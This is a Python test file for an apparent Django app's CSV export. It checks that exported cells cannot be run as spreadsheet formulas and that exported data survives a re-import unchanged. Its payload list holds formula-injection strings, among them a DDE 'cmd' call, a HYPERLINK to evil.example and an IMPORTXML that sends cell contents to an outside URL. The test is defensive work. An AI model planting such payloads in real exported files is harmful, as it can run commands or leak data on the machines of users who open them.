"""Lists out: no spreadsheet runs a cell, and what comes back in is what went out."""

import csv
import io
import itertools
from datetime import UTC, date, datetime
from decimal import Decimal

import pytest

from entente.exchange import csvout
from entente.exchange.testing import bring_in
from entente.people.models import Contact
from entente.workspace.testing import MORNING, assemble

STARTS = ("=", "+", "-", "@", "\uff1d", "\uff0b", "\uff0d", "\uff20", "'=", "''+")
BODIES = (
    *("1+1", "cmd|' /C calc'!A0", 'HYPERLINK("http://evil.example","x")', "SUM(A1:A9)", "2"),
    *("2+3", "A1", "IMPORTXML(CONCAT(\"http://e\",A1),\"//a\")", "DDE(\"a\";\"b\")", "rm -rf"),
)  # fmt: skip
PAYLOADS = [
    f"{apostrophes}{start}{body}"
    for apostrophes, start, body in itertools.product(("", "'", "x", "''"), STARTS, BODIES)
]


def written(*rows: tuple) -> str:
    return "".join(csvout.blocks(headings=("Id", "Name"), rows=rows))


def test_values_are_written_as_machines_read_them():
    rows = [(1, None), (2, Decimal("12.50")), (3, date(2026, 1, 2)), (4, True), (5, "a\x00b")]

    assert written(*rows) == (
        "\ufeffId,Name\r\n1,\r\n2,12.50\r\n3,2026-01-02\r\n4,yes\r\n5,a\u2400b\r\n"
    )
    assert csvout.cell(datetime(2026, 1, 2, 3, 4, tzinfo=UTC)) == "2026-01-02 03:04:00+00:00"


def test_no_payload_begins_a_cell_that_runs():
    assert len(PAYLOADS) == 400
    text = written(*enumerate(PAYLOADS)).removeprefix("\ufeff")

    for _, cell in itertools.islice(csv.reader(io.StringIO(text, newline="")), 1, None):
        runs = cell.lstrip()[:1] in "=+-@\uff1d\uff0b\uff0d\uff20"
        assert not runs or cell.lstrip("+-").isdigit(), cell


@pytest.mark.django_db
def test_what_went_out_comes_back_in_the_same(settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path / "files"
    cast = assemble()
    mapping = {
        "version": 1,
        "contact": {"match": ["key"], "fields": {"key": "Id", "last_name": "Name"}},
    }
    out = written(*((f"k{number}", text) for number, text in enumerate(PAYLOADS)))

    row = bring_in(content=out, by=cast.noor, at=MORNING, mapping=mapping)

    assert row.counts == {"created": len(PAYLOADS)}
    held = list(Contact.objects.order_by("id").values_list("last_name", flat=True))
    assert held == PAYLOADS
    assert written(*((f"k{number}", text) for number, text in enumerate(held))) == out
